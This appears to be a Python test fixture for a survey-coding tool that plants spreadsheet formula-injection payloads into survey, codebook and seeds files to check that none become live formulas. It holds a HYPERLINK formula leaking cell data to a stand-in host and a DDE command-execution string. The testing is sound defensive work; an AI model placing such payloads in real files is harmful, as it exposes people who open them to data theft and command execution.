"""A study whose answers, code names, theme names and attribute values are spreadsheet
formulas (formula-injection tests): the bundled example with hostile text put in, coded by
the fake embedder through the real commands."""

from __future__ import annotations

import importlib.resources
from pathlib import Path

import pandas as pd

from autocode.cli import main

DATA = importlib.resources.files("autocode") / "data"

#: what a respondent (or a code name) might write; none may become a live formula
LINK = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
HOSTILE = [LINK, "+SUM(1,2)", "-2+3 cmd", "@SUM(A1:A2)"]
CODE = '=HYPERLINK("http://evil.example/","code")'  # a code name
THEME = "@theme"  # a theme name
ATTR = "=cmd|' /C calc'!A0"  # a respondent attribute value
RENAMED = "Admission"  # the example code that becomes CODE


def formulas_in(text: str) -> bool:
    return any(text.startswith(c) for c in "=+-@")


def build(folder: Path, seeds: Path) -> dict[str, Path]:
    """Survey, codebook and seeds files with hostile text, and a coded project."""
    survey = pd.read_csv(str(DATA / "example_survey.csv"), dtype=str, keep_default_na=False)
    for i, h in enumerate(HOSTILE):  # hostile answers in both questions
        survey.loc[i, "what_was_good"] = h
        survey.loc[i + 10, "what_could_we_do_better"] = h
    survey.loc[: len(survey) // 2, "service"] = ATTR
    s_path = folder / "survey.csv"
    survey.to_csv(s_path, index=False)
    book = pd.read_csv(str(DATA / "example_codebook.csv"), dtype=str, keep_default_na=False)
    book.loc[book["name"] == RENAMED, "name"] = CODE
    book.loc[book["parent"] == "General", "parent"] = THEME
    b_path = folder / "codebook.csv"
    book.to_csv(b_path, index=False)
    sd = pd.read_csv(seeds, dtype=str, keep_default_na=False)
    sd.loc[sd["code"] == RENAMED, "code"] = CODE
    first = [f"{i}:what_was_good" for i in survey["record_id"][: len(HOSTILE)]]
    extra = pd.DataFrame({"id": first, "code": [CODE] * len(first)})
    sd = pd.concat([sd, extra], ignore_index=True).drop_duplicates()
    sd_path = folder / "seeds.csv"
    sd.to_csv(sd_path, index=False)
    project = folder / "p.db"
    rc = main(["suggest", str(s_path), "-p", str(project), "--model", "hash", "--json"])
    assert rc == 0  # stores the respondents' attributes (service) too
    rc = main(
        [
            "code", str(s_path), "-c", str(b_path), "-s", str(sd_path), "--model", "hash",
            "-p", str(project), "--codebook", str(b_path),
        ]
    )  # fmt: skip
    assert rc == 0
    rc = main(["codebook", "import", str(b_path), "-p", str(project), "--yes"])
    assert rc == 0
    # the same coder then codes answers the machine did not learn from, so agreement of the
    # machine with them can be measured (the hostile answers of the second question stay
    # uncoded: `next` proposes them)
    later = [f"{i}:what_could_we_do_better" for i in survey["record_id"][10 : 10 + len(HOSTILE)]]
    full = pd.read_csv(seeds.parent / "all_codings.csv", dtype=str, keep_default_na=False)
    full.loc[full["code"] == RENAMED, "code"] = CODE
    rest = full[~full["id"].isin(set(sd["id"]))]
    rest = rest[rest["id"].isin(sorted(set(rest["id"]))[:120])]
    held = rest[~rest["id"].isin(later)]
    h_path = folder / "held_out.csv"
    held.to_csv(h_path, index=False)
    rc = main(["codings", "import", str(h_path), "--coder", "human", "-p", str(project)])
    assert rc == 0
    return {"survey": s_path, "codebook": b_path, "seeds": sd_path, "project": project}
